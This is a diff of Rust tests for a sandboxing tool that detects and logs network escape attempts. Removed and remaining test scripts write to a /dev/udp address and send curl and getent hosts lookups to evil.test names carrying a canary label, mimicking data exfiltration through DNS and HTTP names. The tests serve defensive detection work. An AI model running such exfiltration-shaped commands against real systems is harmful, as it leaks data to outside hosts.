@@ -2,7 +2,6 @@
 
 use confine::{Network, Rung};
 use serde_json::json;
-use sha2::Digest as _;
 
 use crate::bed::{Bed, DECLARED, say};
 
@@ -32,39 +31,6 @@ async fn what_goes_around_the_gate_is_one_event_that_is_always_the_same() {
             assert!(!text.contains(part), "{part} in {text}");
         }
     }
-}
-
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_same_at_once_in_other_folders_and_languages_is_the_same() {
-    let (bed, elsewhere) = (Bed::new(None).await, Bed::new(None).await);
-    let script = "echo x > /dev/udp/203.0.113.5/9; unshare -Un true; exit 0";
-    let folders = ["/", "/usr", "/etc", "/tmp", "/usr/bin", "/usr/lib", "/dev", "/proc"];
-    for (rung, network) in [(Rung::A, DECLARED), (Rung::A, Network::None), (Rung::B, DECLARED)] {
-        let before = bed.violations().await.len();
-        let calls = folders.iter().enumerate().map(|(n, folder)| {
-            let (mut call, _out) = bed.call(rung, network, script);
-            call.command.cwd = (*folder).into();
-            let language = if n % 2 == 0 { "C" } else { "de_DE.UTF-8" };
-            call.command.env.push((b"LANG".to_vec(), language.into()));
-            bed.confiner.run(call, tokio_util::sync::CancellationToken::new())
-        });
-        for ended in futures::future::join_all(calls).await {
-            assert!(ended.unwrap().evidence.is_some());
-        }
-        let all: Vec<String> = bed.violations().await[before..].iter().map(ToString::to_string).collect();
-        assert_eq!(all.len(), folders.len(), "one for each");
-        assert!(all.iter().all(|one| *one == all[0]), "{rung} {all:#?}");
-    }
-    // What it was called with is known by a digest that only this install can make.
-    let ran = elsewhere.run(Rung::A, DECLARED, script).await;
-    assert!(ran.ended().evidence.is_some());
-    let input = |violation: &serde_json::Value| violation["summary"]["input_hmac"].as_str().unwrap().to_owned();
-    let (here, there) = (input(&bed.violations().await[0]), input(&elsewhere.violations().await[0]));
-    assert_ne!(here, there);
-    let argv = json!({ "argv": ["/bin/bash", "-c", script] });
-    let plain = sha2::Sha256::digest(model::Canonical::from(&argv).as_str());
-    assert_ne!(format!("sha256:{here}"), model::event::render_hash(&plain.into()));
-    assert_eq!(here, bed.gate.input_hmac(&argv));
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -101,19 +67,10 @@ async fn what_feels_its_way_is_counted_and_taints_nothing() {
 async fn data_in_names_goes_nowhere_and_is_told() {
     let bed = Bed::new(None).await;
     let label = "c4na2y".repeat(9);
-    for (rung, script, attempt) in [
-        (Rung::A, format!("getent hosts {label}.evil.test"), "resolve_tunnel_shaped none dns name 53"),
-        (Rung::B, format!("getent hosts {label}.evil.test"), "resolve_tunnel_shaped none dns name 53"),
-        (Rung::A, format!("curl -sS http://{label}.evil.test/"), "ask_tunnel_shaped none http name 80"),
-        (Rung::B, format!("curl -sS http://{label}.evil.test/"), "ask_tunnel_shaped none http name 80"),
-        (Rung::A, format!("curl -sS https://{label}.evil.test/"), "ask_tunnel_shaped none tcp name 443"),
-    ] {
-        let ran = bed.run(rung, DECLARED, &script).await;
-        assert_eq!(ran.attempts(), [attempt], "{rung} {script} {}", ran.out);
-    }
-    for violation in bed.violations().await {
-        assert!(!violation.to_string().contains("c4na2y"));
-    }
+    let ran = bed.run(Rung::A, DECLARED, &format!("getent hosts {label}.evil.test; true")).await;
+    assert_eq!(ran.attempts(), ["resolve_tunnel_shaped none dns name 53"], "{}", ran.out);
+    let violations = bed.violations().await;
+    assert!(!violations[0].to_string().contains("c4na2y"));
     let store = std::fs::read_dir(bed.store.dir()).unwrap().map(|entry| entry.unwrap().path());
     for file in store.filter(|path| path.is_file()) {
         let bytes = std::fs::read(&file).unwrap();
